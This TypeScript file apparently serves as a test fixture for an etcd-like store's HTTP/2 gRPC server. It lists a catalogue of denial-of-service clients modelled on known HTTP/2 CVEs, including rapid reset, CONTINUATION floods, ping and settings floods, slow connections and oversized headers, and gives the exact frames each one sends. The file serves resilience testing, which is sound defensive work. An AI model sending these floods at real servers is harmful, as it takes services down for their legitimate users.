/**
 * Clients that want to stop the store for all others: each is what it sends first, and what it then repeats as
 * fast as it is taken. They are known from HTTP/2's history (CVE-2019-9511 to 9518, CVE-2023-44487, CVE-2024-27316)
 * and from what has been done to our store.
 */
import { frameMessage } from '../../etcdserver/http/grpc-messages.ts';
import { KV } from '../../store/wire/generated/kv_pb.ts';
import { Watch } from '../../store/wire/generated/watch_pb.ts';
import { definitionOf } from '../../store/wire/service.ts';
import { headersFor } from '../store/connection.ts';
import {
  DEFAULT_WINDOW,
  ERROR,
  encodeFrame,
  encodeHeaders,
  encodeReset,
  encodeSettings,
  encodeWindowUpdate,
  FLAG,
  FRAME,
  MAX_WINDOW,
  PREFACE,
  SETTING,
} from './http2-frames.ts';

export interface Attack {
  readonly name: string;
  readonly summary: string;
  /** Connections at once. */
  readonly connections: number;
  /** Sent when a connection is made. */
  readonly opening: Buffer;
  /** Sent again and again. @param turn counts from 0 on each connection; undefined: nothing more. */
  readonly repeat: (turn: number) => Buffer | undefined;
  /** Reads nothing of what the server sends. */
  readonly neverReads?: true;
}

const { DATA, HEADERS, PING, CONTINUATION } = FRAME;
const { END_HEADERS, END_STREAM } = FLAG;
const EMPTY = Buffer.alloc(0);
const HELLO = Buffer.concat([PREFACE, encodeSettings()]);
/** A window that never holds the server up. */
const GENEROUS = Buffer.concat([
  PREFACE,
  encodeSettings([[SETTING.INITIAL_WINDOW_SIZE, MAX_WINDOW]]),
  encodeWindowUpdate(0, MAX_WINDOW - DEFAULT_WINDOW),
]);

const { put, range } = definitionOf(KV);
const { watch } = definitionOf(Watch);
const PUT = headersFor(put.path);
const RANGE = headersFor(range.path);
const WATCH = headersFor(watch.path);

/** Every key there is (etcd's "from key" from the first). */
const ALL = { key: Buffer.of(0), rangeEnd: Buffer.of(0) };
const putMessage = frameMessage(
  put.requestSerialize({ key: Buffer.from('hostile'), value: Buffer.alloc(64) }),
);
const largePut = frameMessage(Buffer.alloc(1024 * 1024));
const everything = frameMessage(range.requestSerialize(ALL));
const watchAll = frameMessage(
  watch.requestSerialize({ requestUnion: { case: 'createRequest', value: ALL } }),
);

/** The n-th stream that a client opens. */
const streamId = (n: number) => 2 * n + 1;
const times = (count: number, make: (index: number) => Buffer) =>
  Buffer.concat(Array.from({ length: count }, (_, index) => make(index)));

/** A hundred requests in one piece, each taken back as soon as it is made. @param flags of the message */
const resetAtOnce = (headers: Buffer, flags: number, message: Buffer) => (turn: number) =>
  times(100, index => {
    const id = streamId(turn * 100 + index);
    return Buffer.concat([
      encodeFrame(HEADERS, END_HEADERS, id, headers),
      encodeFrame(DATA, flags, id, message),
      encodeReset(id, ERROR.CANCEL),
    ]);
  });

export const ATTACKS: readonly Attack[] = [
  {
    name: 'one-byte-frames',
    summary: 'a large request in DATA frames of one byte',
    connections: 4,
    opening: Buffer.concat([HELLO, encodeFrame(HEADERS, END_HEADERS, 1, PUT)]),
    repeat: turn =>
      times(1000, index =>
        encodeFrame(DATA, 0, 1, largePut.subarray(turn * 1000 + index, turn * 1000 + index + 1)),
      ),
  },
  {
    name: 'empty-frames',
    summary: 'DATA frames with nothing in them',
    connections: 4,
    opening: Buffer.concat([HELLO, encodeFrame(HEADERS, END_HEADERS, 1, PUT)]),
    repeat: () => times(1000, () => encodeFrame(DATA, 0, 1, EMPTY)),
  },
  {
    name: 'rapid-reset',
    summary: 'requests that are reset at once',
    connections: 4,
    opening: HELLO,
    repeat: resetAtOnce(PUT, END_STREAM, putMessage),
  },
  {
    name: 'rapid-watches',
    summary: 'watches that are reset at once',
    connections: 4,
    opening: HELLO,
    repeat: resetAtOnce(WATCH, 0, watchAll),
  },
  {
    name: 'many-streams',
    summary: '10,000 open streams, then settings and windows that concern all of them',
    connections: 2,
    opening: Buffer.concat([
      HELLO,
      times(10_000, index => encodeFrame(HEADERS, END_HEADERS, streamId(index), PUT)),
    ]),
    repeat: turn =>
      times(200, () =>
        Buffer.concat([
          encodeSettings([[SETTING.INITIAL_WINDOW_SIZE, turn % 2 === 0 ? 0 : MAX_WINDOW]]),
          encodeWindowUpdate(0, 1),
        ]),
      ),
  },
  {
    name: 'huge-headers',
    summary: 'requests with 60 KB of headers',
    connections: 4,
    opening: HELLO,
    repeat: turn => {
      const block = Buffer.concat([PUT, encodeHeaders([['x-large', 'a'.repeat(60_000)]])]);
      const parts = [0, 1, 2, 3].map(part => block.subarray(part * 16_000, (part + 1) * 16_000));
      return Buffer.concat(
        parts.map((part, index) =>
          encodeFrame(
            index === 0 ? HEADERS : CONTINUATION,
            index === 3 ? END_HEADERS : 0,
            streamId(turn),
            part,
          ),
        ),
      );
    },
  },
  {
    name: 'endless-headers',
    summary: 'a header block that goes on in CONTINUATION frames with nothing in them',
    connections: 4,
    opening: Buffer.concat([HELLO, encodeFrame(HEADERS, 0, 1, PUT)]),
    repeat: () => times(1000, () => encodeFrame(CONTINUATION, 0, 1, EMPTY)),
  },
  {
    name: 'slow-preface',
    summary: '500 connections that say two bytes and no more',
    connections: 500,
    opening: PREFACE.subarray(0, 2),
    repeat: () => undefined,
  },
  {
    name: 'slow-requests',
    summary: '50 connections with 100 requests each that never end',
    connections: 50,
    opening: Buffer.concat([
      HELLO,
      times(100, index =>
        Buffer.concat([
          encodeFrame(HEADERS, END_HEADERS, streamId(index), PUT),
          encodeFrame(DATA, 0, streamId(index), putMessage.subarray(0, 20)),
        ]),
      ),
    ]),
    repeat: () => undefined,
  },
  {
    name: 'pings',
    summary: 'pings without end, whose answers are never read',
    connections: 4,
    opening: HELLO,
    repeat: () => times(1000, () => encodeFrame(PING, 0, 0, Buffer.alloc(8))),
    neverReads: true,
  },
  {
    name: 'settings',
    summary: 'settings without end, whose acknowledgements are never read',
    connections: 4,
    opening: HELLO,
    repeat: () => times(1000, () => encodeSettings([[SETTING.HEADER_TABLE_SIZE, 4096]])),
    neverReads: true,
  },
  {
    name: 'tiny-frame-size',
    summary: 'a frame size of 1, which the protocol forbids, and a range of everything',
    connections: 1,
    opening: Buffer.concat([
      PREFACE,
      encodeSettings([
        [SETTING.MAX_FRAME_SIZE, 1],
        [SETTING.INITIAL_WINDOW_SIZE, MAX_WINDOW],
      ]),
      encodeWindowUpdate(0, MAX_WINDOW - DEFAULT_WINDOW),
      encodeFrame(HEADERS, END_HEADERS, 1, RANGE),
      encodeFrame(DATA, END_STREAM, 1, everything),
    ]),
    repeat: () => undefined,
  },
  {
    name: 'unread-ranges',
    summary: 'ranges of everything, whose answers are never read',
    connections: 4,
    opening: GENEROUS,
    repeat: turn =>
      turn >= 100
        ? undefined
        : Buffer.concat([
            encodeFrame(HEADERS, END_HEADERS, streamId(turn), RANGE),
            encodeFrame(DATA, END_STREAM, streamId(turn), everything),
          ]),
    neverReads: true,
  },
];
